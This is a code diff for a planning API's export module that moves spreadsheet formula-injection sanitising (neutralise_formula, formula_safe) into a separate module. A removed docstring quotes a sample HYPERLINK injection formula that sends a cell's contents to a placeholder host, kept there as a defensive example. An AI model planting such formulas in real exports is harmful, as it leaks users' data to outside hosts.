@@ -24,6 +24,7 @@ from sqlalchemy.orm import Session
 from api.errors import RequestError
 from api.models import WKB, Building, PlanAssignment, PlanGrid
 from api.plans.state import table_of
+from geo.spreadsheet import formula_safe, neutralise_formula, xlsx_cell
 
 __all__ = ["EXPORT_FORMATS", "HEADER_STYLES", "Export", "grids_frame", "buildings_frame", "grid_statistics",
            "buildings_table", "neutralise_formula", "formula_safe", "export_plan"]
@@ -57,8 +58,6 @@ FLAGS_ZH = {"over_max": "超过上限", "under_min": "低于下限", "compound_s
             "approximate": "社区边界为近似"}
 #: Header styles of CSV/XLSX exports: Chinese for people (default), canonical names for programs.
 HEADER_STYLES = ("zh", "canonical")
-#: Leading characters that make a spreadsheet cell a formula (CSV/formula injection).
-FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 
 
 @dataclass(frozen=True)
@@ -148,31 +147,6 @@ def _flags_zh(text: str) -> str:
     return "、".join(FLAGS_ZH.get(p.strip(), p.strip()) for p in parts)
 
 
-def neutralise_formula(value: object) -> object:
-    """*value*, prefixed with ``'`` when it is text a spreadsheet would run as a formula.
-
-    Names come from people's files and edits: ``=HYPERLINK("http://x"&A1,"点击")`` as a
-    grid name must stay text in Excel/WPS (OWASP CSV injection). Numbers are left alone.
-
-    Examples
-    --------
-    >>> neutralise_formula("=1+2"), neutralise_formula(-3), neutralise_formula("3号楼")
-    ("'=1+2", -3, '3号楼')
-    """
-    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
-        return "'" + value
-    return value
-
-
-def formula_safe(df: pd.DataFrame) -> pd.DataFrame:
-    """Every text cell of *df* neutralised (see :func:`neutralise_formula`)."""
-    out = df.copy()
-    for c in out.columns:
-        if out[c].dtype == object or pd.api.types.is_string_dtype(out[c]):
-            out[c] = out[c].map(neutralise_formula, na_action="ignore")
-    return out
-
-
 def buildings_table(buildings: gpd.GeoDataFrame, *, headers: str = "zh") -> pd.DataFrame:
     """Building → grid table (no geometry) with Chinese or canonical headers."""
     out = pd.DataFrame(buildings[BUILDING_COLUMNS]).reset_index(drop=True)
@@ -202,7 +176,7 @@ def _kml(layers: dict[str, gpd.GeoDataFrame], path: Path) -> bytes:
 def _cell(v: object) -> object:
     if v is None or (isinstance(v, float) and v != v) or v is pd.NA:
         return None
-    return neutralise_formula(v.item() if hasattr(v, "item") else v)
+    return xlsx_cell(v.item() if hasattr(v, "item") else v)
 
 
 def _xlsx(stats: pd.DataFrame, buildings: pd.DataFrame) -> bytes:
